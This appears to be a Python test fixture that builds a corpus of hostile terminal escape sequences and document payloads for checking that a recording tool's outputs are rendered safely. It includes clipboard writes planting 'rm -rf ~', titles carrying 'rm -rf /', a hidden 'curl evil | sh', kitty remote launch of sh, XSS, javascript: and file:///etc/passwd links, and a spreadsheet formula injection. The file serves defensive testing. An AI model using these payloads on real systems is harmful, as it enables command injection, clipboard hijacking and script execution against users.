# SPDX-License-Identifier: MIT
"""hostile.py -- what a recording may hold to harm whoever looks at it.

    for name, data in sequences("http://127.0.0.1:9/"):

Each is made for something that reads what ahr writes: a terminal, a browser, a spreadsheet, a Markdown
renderer, or the eye. CANARY is an address that nobody may ask for.
"""

import base64

ESC, ST, BEL = b"\x1b", b"\x1b\\", b"\x07"
SECRET = b"hostile-secret"


def osc(body, end=BEL):
    return ESC + b"]" + body + end


def csi(body):
    return ESC + b"[" + body


def dcs(body, end=ST):
    return ESC + b"P" + body + end


def text(s):
    return s.encode()


def _clipboard():
    planted = base64.b64encode(b"rm -rf ~\n")
    for which in (b"c", b"p", b"s", b"0", b"", b"cps"):
        yield f"clipboard write {which}", osc(b"52;" + which + b";" + planted)
        yield f"clipboard read {which}", osc(b"52;" + which + b";?")
    yield "clipboard write by ST", osc(b"52;c;" + planted, ST)
    yield "clipboard write without an end", osc(b"52;c;" + planted, b"")
    yield "clipboard of another terminal", osc(b"5522;type=read;Lg==")
    yield "clipboard by iTerm", osc(b"1337;Copy=:" + planted)


def _titles():
    for number in (b"0", b"1", b"2", b"l", b"L", b"3", b"21"):
        yield f"title {number}", osc(number + b";\r\nrm -rf /\r\n")
    yield "title with ESC", osc(b"2;a\x1b[31mb")
    yield "title with C1", osc(text("2;a\x9b31mb"))
    yield "title with markup", osc(b"2;</title><script>pwned=1</script>")
    yield "title with bidi", osc(text("2;a\u202egnp.exe"))
    yield "title very long", osc(b"2;" + b"A" * 70000)
    yield "title by screen", ESC + b"k</h1><img src=x onerror=pwned=1>" + ST
    for n in (14, 18, 19, 20, 21):
        yield f"report {n}t", osc(b"2;echo pwned") + csi(b"%dt" % n)
    yield "title pushed and told", csi(b"22;0t") + csi(b"23;0t") + csi(b"21t")


def _queries():
    for body in (b"c", b"0c", b">c", b">0c", b"=c", b"5n", b"6n", b"?6n", b"?15n", b"?25n", b"?26n",
                 b"?53n", b"?55n", b"?62n", b"?63;1n", b"?996n", b"x", b"0x", b"1x", b"?u", b">q",
                 b">0q", b"?1$p", b"?2026$p", b"4$p", b"1*y", b"1;1;1;1;5;5*y", b"$u", b"1$w", b"2$w",
                 b"&v", b"'|", b"?4m", b">4;?m", b"#S", b"?1;1;0S", b"?2;1;0S", b"1$}"):
        yield f"asks CSI {body.decode()}", csi(body)
    for body in (b"$qm", b"$q\"p", b"$qr", b"$q q", b"$q\"q", b"$qs", b"$qt", b"+q544e", b"+q636f6c6f7273",
                 b"+q524742", b"+p544e", b"=1s", b"+Q"):
        yield f"asks DCS {body.decode()}", dcs(body)
    for body in (b"4;0;?", b"4;255;?", b"5;0;?", b"10;?", b"11;?", b"12;?", b"13;?", b"17;?", b"19;?",
                 b"10;?;?;?", b"21;background=?", b"50;?", b"60", b"61", b"702;?", b"3008;?"):
        yield f"asks OSC {body.decode()}", osc(body)
    yield "answerback", b"\x05"
    yield "answerbacks", b"\x05" * 50
    yield "identifies itself by DECID", ESC + b"Z"
    yield "XTVERSION by C1", b"\x9b>q"


def _window():
    for body in (b"1t", b"2t", b"3;0;0t", b"4;1;1t", b"5t", b"6t", b"7t", b"8;1;1t", b"9;1t", b"10;1t",
                 b"24t", b"5i", b"4i", b"?5i", b"?1i", b"i", b"0i", b"?3h", b"?40h", b"?1049h", b"?1047h",
                 b"?1;2004;1000;1003;1006;1004h", b"?9001h", b"?2026h", b"?25l", b"?7727h", b"20h", b"2h",
                 b"12l", b"?5h", b"?6h", b"?69h", b"5;2r", b"!p", b"62\"p", b"61;1\"p", b"0;3\"p", b"1\"q",
                 b"=31u", b">31u", b"<99u", b">4;2m", b"5 q", b"99 q", b"3g", b"?5W", b"100S", b"100T",
                 b"9999999999999999999999C", b"0;9999999999H", b"1;2;3;4;5;6;7;8;9;10;11;12;13;14;15;16;"
                 b"17;18;19;20;21;22;23;24;25;26;27;28;29;30;31;32;33;34;35;36;37;38;39;40m",
                 b"38;5;999m", b"38;2;999;999;999m", b"48:2::1:2:3:4:5m", b"58;5;1m"):
        yield f"window CSI {body.decode()[:40]}", csi(body) + b"x"
    for body in (b"c", b"7", b"8", b"=", b">", b"#8", b"#3", b"#6", b"D", b"M", b"E", b"H", b"l", b"m", b"n",
                 b"o", b"|", b"}", b"~", b"(0", b"(A", b")0", b"%G", b"%@", b" F", b" G", b"6", b"9"):
        yield f"ESC {body.decode()}", ESC + body + b"lqqk x"
    yield "shift out", ESC + b")0\x0elqqk\x0f"
    yield "single shifts", ESC + b"*0" + ESC + b"Nq" + ESC + b"Oq"


def _strings():
    for name, lead in (("APC", b"_"), ("PM", b"^"), ("SOS", b"X"), ("DCS", b"P"), ("OSC", b"]"), ("screen", b"k")):
        yield f"{name} with a payload", ESC + lead + b"payload \x1b[31m <script>pwned=1</script>" + ST
        yield f"{name} without an end", ESC + lead + b"payload"
        yield f"{name} in itself", ESC + lead + b"a" + ESC + lead + b"b" + ST + b"c" + ST
        yield f"{name} cut by CAN", ESC + lead + b"a\x18b"
        yield f"{name} cut by SUB", ESC + lead + b"a\x1ab"
        yield f"{name} ended by C1", ESC + lead + b"a\x9cb"
        yield f"{name} with controls", ESC + lead + bytes(range(0x20)).replace(ESC, b"") + ST
    yield "kitty graphics", ESC + b"_Gf=100,a=T,t=f;L2V0Yy9wYXNzd2Q=" + ST
    yield "kitty graphics query", ESC + b"_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA" + ST
    yield "kitty remote control", dcs(b'@kitty-cmd{"cmd":"launch","args":["sh"]}')
    yield "sixel", dcs(b"0;0;8q\"1;1;9;9#0;2;100;0;0#0!9~-")
    yield "sixel, huge", dcs(b"q\"1;1;999999;999999#0!999999999~")
    yield "ReGIS", dcs(b"pS(E)P[0,0]V[9,9]")
    yield "DECUDK", dcs(b"0;1|17/726d202d7266207e0d")
    yield "DECDLD", dcs(b"1;1;1;0;0;0;0;0{ @???")
    yield "DECRSPS", dcs(b"1$t1;1;1;@;@;@;0;0;@;BBBB")
    yield "XTSETTCAP", dcs(b"+p6b31=0a")
    yield "a macro defined and called", dcs(b"1;0;1!z726d0a") + csi(b"1*z")
    yield "tmux passthrough", dcs(b"tmux;\x1b\x1b]52;c;cm0K\x07")
    yield "screen passthrough", dcs(b"\x1b]52;c;cm0K\x07")
    yield "synchronized by DCS", dcs(b"=1s") + b"x"


def _osc():
    for body in (b"9;pwned", b"9;4;1;50", b"9;9;/etc", b"777;notify;a;b", b"99;;pwned", b"777;precmd",
                 b"7;file:///etc/passwd", b"6;1;bg;red;brightness;255", b"4;1;rgb:ff/00/00", b"4;1;#zzz",
                 b"10;#ffffff", b"11;#000000", b"104", b"110;", b"50;CursorShape=1", b"51;A", b"22;pointer",
                 b"46;/tmp/log", b"50;#2", b"133;A;cl=m;aid=<b>", b"133;D;0", b"633;E;rm -rf /;nonce",
                 b"633;P;Cwd=/", b"1337;SetMark", b"1337;CurrentDir=/", b"1337;RequestUpload=format=tgz",
                 b"1337;OpenURL=:aHR0cDovL2V4YW1wbGUub3Jn", b"1337;StealFocus", b"1337;ClearScrollback",
                 b"1337;SetUserVar=a=Yg==", b"1337;RemoteHost=a@b", b"1337;ReportCellSize",
                 b"1337;CursorShape=1", b"1337;ShellIntegrationVersion=9", b"1337;Custom=id=1:x",
                 b"1337;AddAnnotation=x", b"1337;HighlightCursorLine=yes", b"1337;ReportVariable=YQ==",
                 b"1337;Disinter", b"5379;send-text;rm", b"99999999999999999999;x", b"-1;x", b";x", b"",
                 b"4;" + b"1;#fff;" * 3000, b"2;a\nb\rc\x0bd", b"66;s=7;big", b"9001;CmdNotFound;x"):
        yield f"OSC {body[:40]}", osc(body)
    yield "iTerm file", osc(b"1337;File=name=Li4vLi4veA==;size=4;inline=0:AAAA")
    yield "iTerm picture", osc(b"1337;File=inline=1;width=9999:R0lGODlhAQABAAAAACw=")
    yield "iTerm file in parts", osc(b"1337;MultipartFile=name=eA==") + osc(b"1337;FilePart=AAAA") + osc(b"1337;FileEnd")


def _links(canary):
    web = text(canary)
    for uri in (b"javascript:pwned=1", b"JaVaScRiPt:pwned=1", b" javascript:pwned=1", b"java\tscript:pwned=1",
                b"data:text/html,<script>pwned=1</script>", b"file:///etc/passwd", b"vbscript:x", b"ssh://x",
                b"mailto:a@b", b"tel:1", b"x-man-page://x", b"blob:x", b"about:blank", b"//example.org", b"/x", b"#x",
                b"", b"http:", b"http://", b"https://", b"HTTP://EXAMPLE.ORG/", b"http:javascript:pwned=1",
                web + b'"onmouseover="pwned=1', web + b"' onclick='pwned=1", web + b"><script>pwned=1</script>",
                web + b"\x1b]52;c;cm0K", web + text("\u202egpj"), web + b"\xff\xfe", web + b"%0d%0aX: y",
                web + b"\x7f", web + text("\x9b31m"), web + b" b", web + b"&#34;&quot;&lt;", web + b"a" * 5000,
                b"http://user:pass@example.org@evil.example/", text("https://еxample.org/"),
                b"https://example.org/)[x](javascript:pwned=1)", b"https://example.org/|a|b"):
        yield f"link {uri[:40]}", osc(b"8;;" + uri) + b"click me" + osc(b"8;;")
        yield f"link by ST {uri[:40]}", osc(b"8;id=<\">;" + uri, ST) + b"me" + osc(b"8;;", ST)
    yield "a link that is never ended", osc(b"8;;" + web) + b"on and on\r\nand on"
    yield "a thousand links", b"".join(osc(b"8;;%s%d" % (web, i)) + b"x" for i in range(1000)) + osc(b"8;;")


def _bytes():
    for c in [*range(0x20), 0x7f]:
        yield f"C0 {c:02x}", b"a" + bytes([c]) + b"b"
    for c in range(0x80, 0xa0):
        yield f"C1 byte {c:02x}", b"a" + bytes([c]) + b"31mb"
        yield f"C1 character {c:02x}", text(f"a{chr(c)}31mb")
    for bad in (b"\xc0\xaf", b"\xc0\x9b31m", b"\xe0\x80\x9b", b"\xf0\x80\x80\x9b", b"\xed\xa0\x80\xed\xb0\x80", b"\xf4\x90\x80\x80",
                b"\xf8\x88\x80\x80\x80", b"\xfe\xff", b"\xff\xfe\x00\x00", b"\xc3", b"\xe2\x80", b"\xf0\x9f\x98", b"\xc3\x1b[31m",
                b"\xe2\x1b]52;c;x\x07", b"\x80\x81\xbf", b"\xef\xbf\xbe", b"\xef\xbf\xbf", b"\xf3\xbf\xbf\xbf", b"+ADw-script+AD4-"):
        yield f"no UTF-8 {bad.hex()}", b"a" + bad + b"b"
    for name, chars in (("bidi", "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
                        ("separators", "\u2028\u2029\x85"), ("annotations", "\ufff9\ufffa\ufffb"),
                        ("byte order mark", "\ufeff"), ("no width", "\u200b\u200c\u200d\u2060\u2061\u2064\u206a\u206f\u180e"),
                        ("fillers", "\u115f\u1160\u3164\uffa0\u2800\u00ad\u034f"), ("tags", "\U000e0001\U000e0072\U000e006d\U000e007f"),
                        ("selectors", "\ufe0e\ufe0f\U000e0100\U000e01ef"), ("private", "\ue000\uf8ff\U000f0000\U0010ffff")):
        yield name, text(f"a{chars}b" + "".join(f" x{c}y" for c in chars))
    yield "a name turned round", text("invoice\u202egpj.exe")
    yield "trojan source", text("if access != \"user\u202e \u2066// admin\u2069 \u2066\" {")
    yield "right to left", text("שלום 1 + 2 <b> עולם")
    yield "zalgo", text("Z" + "\u0351\u034b\u0489\u0360" * 200 + "x")
    yield "marks at the edge", b"\x1b[1;80H" + text("\u0301" * 100 + "x\u0301")
    yield "family of families", text("👩\u200d" * 100 + "👩")
    yield "flags", text("🇦" * 333)
    yield "the longest word", b"A" * 100000
    yield "BS over it", b"visible\x08\x08\x08\x08\x08\x08\x08hidden!"
    yield "CR over it", b"curl evil | sh\rls            "
    yield "hidden by SGR", csi(b"8m") + SECRET + csi(b"m")
    yield "ink on its own ground", csi(b"30;40m") + SECRET + csi(b"m")


def _nested():
    yield "ESC by the dozen", ESC * 40 + b"[31mx"
    yield "CSI in CSI", csi(b"3" + csi(b"1") + csi(b"2")) + b"mx"
    yield "CSI that never ends", csi(b"3;" * 5000)
    yield "CSI with controls", csi(b"3\n1\r\x07mx")
    yield "CSI with intermediates", csi(b"1!\"#$%&'()*+,-./mx")
    yield "CSI with high bytes", csi(b"3\xc3\xa91mx")
    yield "OSC in CSI in OSC", osc(b"2;a" + csi(b"1" + osc(b"2;b")))
    yield "DCS in OSC", osc(b"2;a" + dcs(b"$qm"), b"")
    yield "ST alone", ST * 5
    yield "cut in its middle", csi(b"38;2;1")
    yield "cut after ESC", ESC
    yield "cut in a character", b"\xf0\x9f"
    yield "RIS and again", (ESC + b"c") * 20
    yield "alternate and back", (csi(b"?1049h") + b"x" + csi(b"?1049l")) * 20
    yield "REP without end", b"x" + csi(b"99999999b")
    yield "erase and tabs", csi(b"3J") + csi(b"2J") + ESC + b"H" + b"\t" * 50 + b"x"


def _documents(canary):
    for payload in (
            "<script>pwned=1</script>", "</pre><script>pwned=1</script>", "<img src=x onerror=pwned=1>",
            f"<img src='{canary}img'>", f"<link rel=stylesheet href={canary}css>", f"<iframe src={canary}frame></iframe>",
            "<svg/onload=pwned=1>", "<body onload=pwned=1>", f"<meta http-equiv=refresh content='0;{canary}refresh'>",
            f"<base href={canary}>", f"<form action={canary}form><button>x", "<style>*{background:url(%sbg)}</style>" % canary,
            f"</style><style>@import '{canary}import'", "<!--", "-->", "<![CDATA[", "]]>", "<plaintext>", "<xmp>", "<textarea>",
            "<noscript>", "<template>", "<math><mi//xlink:href='javascript:pwned=1'>", "&lt;script&gt;", "&#60;b&#62;", "&amp;amp;",
            '"><b>', "'><b>", "`<b>`", "\" onfocus=pwned=1 autofocus x=\"", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "\\u003cscript\\u003e",
            "style=--d:url(x)", f"<object data={canary}object>", f"<video src={canary}video autoplay>", "<details open ontoggle=pwned=1>",
            "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1+1", "=HYPERLINK(\"%s\")" % canary,
            "a,b\"c;d", '"', '""', "```", "````", "~~~", "    code", "# heading", "> quote", "- list", "1. list", "| a | b |", "|---|",
            "a|b\\|c", "![x](%simg)" % canary, "[x](javascript:pwned=1)", f"<{canary}>", f"[x]: {canary}", "---", "***", "**b** _i_ `c`",
            "<br>", "\\", "\\|", "</td></table>", "$$x$$", "[ahr: this line is a lie]", "[[x]]", ":::warning", "%PDF-1.4", "#!/bin/sh",
            '{"version":2,"width":80}', '[0.1,"o","x"]', "\\u001b[31m", "{\"kind\":\"snapshot\"}", "null", "kind,index_or_id,position"):
        yield f"document {payload[:40]!r}", text(payload)


def sequences(canary="http://127.0.0.1:9/"):
    """All as (name, bytes); the names are unique."""
    found = [(name, data) for group in (_clipboard(), _titles(), _queries(), _window(), _strings(), _osc(), _links(canary), _bytes(),
                                        _nested(), _documents(canary)) for name, data in group]
    assert len({name for name, _ in found}) == len(found)
    return found


def recording(data):
    """A stream that has this in its middle, with text around it."""
    return b"before\r\n" + data + b"\r\nbehind\r\n"


# Ends whatever was begun, and takes what is on the screen off it.
CALM = b"\x18" + ST + csi(b"!p") + csi(b"?1049l") + csi(b"?69l") + csi(b"?3l") + csi(b"999H") + b"\r\n" * 24
